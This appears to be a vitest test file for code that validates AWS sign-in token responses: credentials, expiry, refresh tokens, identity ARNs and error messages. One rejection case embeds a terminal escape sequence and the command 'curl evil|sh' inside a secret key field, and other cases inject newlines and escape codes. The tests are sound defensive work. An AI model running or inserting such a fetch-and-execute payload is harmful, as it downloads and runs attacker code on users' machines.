import { describe, expect, it } from 'vitest';
import { checkRefreshAnswer, checkTokenAnswer, endsSession, isPrincipalArn, refusalOf, subjectOf } from './signin-answer';

const now = Date.parse('2026-12-04T10:00:00Z');
const jwt = (claims: object) => `eyJhbGciOiJFUzI1NiJ9.${Buffer.from(JSON.stringify(claims)).toString('base64url')}.c2ln`;
const good = {
	accessToken: {
		accessKeyId: 'ASIAQWERTYUIOPASDFGH',
		secretAccessKey: 'wJalrXUtnFEMI/K7MDENG/bPxRfiCYzEXAMPLEKEY',
		sessionToken: 'IQoJb3JpZ2luX2VjE+/abcdefghijklmnop==',
	},
	tokenType: 'aws_sigv4',
	expiresIn: 900,
	refreshToken: 'rt-0123456789abcdefghij',
	idToken: jwt({ sub: 'arn:aws:iam::123456789012:user/alice' }),
};

describe('token answers', () => {
	it('become credentials expiring expiresIn from now, the refresh token, and the subject', () => {
		expect(checkTokenAnswer(good, 'authorization_code', now)).toEqual({
			ok: true,
			value: {
				credentials: { ...good.accessToken, expiration: '2026-12-04T10:15:00.000Z' },
				refreshToken: good.refreshToken,
				subject: 'arn:aws:iam::123456789012:user/alice',
			},
		});
	});

	it('need no idToken on a refresh', () => {
		const { idToken: _, ...refreshed } = good;
		expect(checkTokenAnswer(refreshed, 'refresh_token', now).ok).toBe(true);
		expect(checkRefreshAnswer(refreshed, now)).toEqual(checkTokenAnswer(refreshed, 'refresh_token', now));
		expect(checkRefreshAnswer({ ...refreshed, expiresIn: 901 }, now)).toEqual({ ok: false, error: 'expiresIn' });
		expect(checkTokenAnswer(refreshed, 'authorization_code', now)).toEqual({ ok: false, error: 'idToken' });
	});

	it.each([
		['tokenType', { tokenType: 'Bearer' }],
		['accessToken', { accessToken: 'opaque' }],
		['accessKeyId', { accessToken: { ...good.accessToken, accessKeyId: 'AKIAIOSFODNN7EXAMPLE' } }],
		['secretAccessKey', { accessToken: { ...good.accessToken, secretAccessKey: 'wJalr\u001b[2Kcurl evil|sh' } }],
		['sessionToken', { accessToken: { ...good.accessToken, sessionToken: undefined } }],
		['expiresIn', { expiresIn: 43_200 }],
		['expiresIn', { expiresIn: '900' }],
		['expiresIn', { expiresIn: 0 }],
		['refreshToken', { refreshToken: 'has a space in it here' }],
		['refreshToken', { refreshToken: '' }],
		['idToken', { idToken: jwt({ sub: 'alice' }) }],
		['idToken', { idToken: 'not-a-jwt' }],
	])('are refused at %s when it is not what AWS sends', (field, change) => {
		expect(checkTokenAnswer({ ...good, ...change }, 'authorization_code', now)).toEqual({ ok: false, error: field });
	});

	it('are refused when not an object', () => {
		expect(checkTokenAnswer('<html>', 'refresh_token', now)).toEqual({ ok: false, error: 'answer' });
	});
});

describe('the idToken subject', () => {
	it.each([
		'arn:aws:iam::123456789012:user/alice',
		'arn:aws:iam::123456789012:user/team/alice',
		'arn:aws:iam::123456789012:root',
		'arn:aws:sts::123456789012:assumed-role/Admin/alice@example.com',
	])('accepts %s', (arn) => {
		expect(isPrincipalArn(arn)).toBe(true);
		expect(subjectOf(jwt({ sub: arn }))).toBe(arn);
	});

	it.each([
		'arn:aws:iam::12345678901:user/alice',
		'arn:aws:iam::123456789012:role/Admin',
		'arn:aws:s3:::bucket',
		'arn:aws:iam::123456789012:user/alice\nX',
		'arn:other:iam::123456789012:user/alice',
	])('refuses %s', (arn) => {
		expect(subjectOf(jwt({ sub: arn }))).toBeUndefined();
	});
});

describe('refusals', () => {
	it('read the code and a cleaned message; anything else is OTHER and does not end the session', () => {
		expect(refusalOf({ error: 'USER_CREDENTIALS_CHANGED', message: 'changed\u001b[2K' })).toEqual({
			code: 'USER_CREDENTIALS_CHANGED',
			message: 'changed[2K',
		});
		expect(refusalOf({ error: 'invalid_grant' }).code).toBe('OTHER');
		expect(refusalOf('<html>')).toEqual({ code: 'OTHER', message: '' });
		expect(endsSession('TOKEN_EXPIRED')).toBe(true);
		expect(endsSession('OTHER')).toBe(false);
	});
});
